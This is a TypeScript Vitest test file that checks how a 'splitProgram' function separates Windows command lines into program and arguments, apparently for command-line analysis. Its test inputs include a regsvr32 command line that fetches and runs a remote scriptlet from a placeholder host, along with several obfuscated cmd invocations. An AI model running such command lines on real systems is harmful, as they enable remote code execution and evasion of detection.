import { describe, expect, it } from "vitest";
import { splitProgram } from "./program.ts";
import { rest } from "./tokens.ts";

describe("splitProgram", () => {
  it.each<[string, string | undefined, string, string]>([
    ["C:\\Program Files\\Vendor\\tool.exe /x", undefined, "C:\\Program Files\\Vendor\\tool.exe", "/x"],
    [
      "C:\\Program Files\\Vendor\\tool /x",
      "C:\\Program Files\\Vendor\\tool.exe",
      "C:\\Program Files\\Vendor\\tool",
      "/x",
    ],
    ["C:\\Windows\\System32\\rundll32 my.exe", undefined, "C:\\Windows\\System32\\rundll32", "my.exe"],
    ["rundll32 C:\\a b.exe", undefined, "rundll32", "C:\\a b.exe"],
    ["C:\\x\\rundll32.exe C:\\a b.exe", undefined, "C:\\x\\rundll32.exe", "C:\\a b.exe"],
    ['"regsvr32"/s x.dll', undefined, "regsvr32", "/s x.dll"],
    ['"C:\\Program Files"\\Vendor\\tool.exe -q', undefined, "C:\\Program Files\\Vendor\\tool.exe", "-q"],
    ["cmd/c foo", undefined, "cmd", "/c foo"],
    ["cmd.exe/cfoo", undefined, "cmd.exe", "/cfoo"],
    ["cmd.exe,/c foo", undefined, "cmd.exe", ",/c foo"],
    ["lib,b/pool/x.exe y", undefined, "lib,b/pool/x.exe", "y"],
    ["cmd;=/c foo", undefined, "cmd", ";=/c foo"],
    ["C:/Windows/System32/cmd.exe /c x", undefined, "C:/Windows/System32/cmd.exe", "/c x"],
    ["regsvr32/s/u/i:http://h/x.sct scrobj.dll", undefined, "regsvr32", "/s/u/i:http://h/x.sct scrobj.dll"],
    ["bin/tool.exe x", undefined, "bin/tool.exe", "x"],
    ["", undefined, "", ""],
  ])("%s", (text, image, value, behind) => {
    const { program } = splitProgram(text, image);
    expect([program.value, rest(text, program)]).toEqual([value, behind]);
  });

  it("ends a typed command at its slash", () => {
    expect(splitProgram("mytool/alpha beta", undefined, true).program.value).toBe("mytool");
  });
});
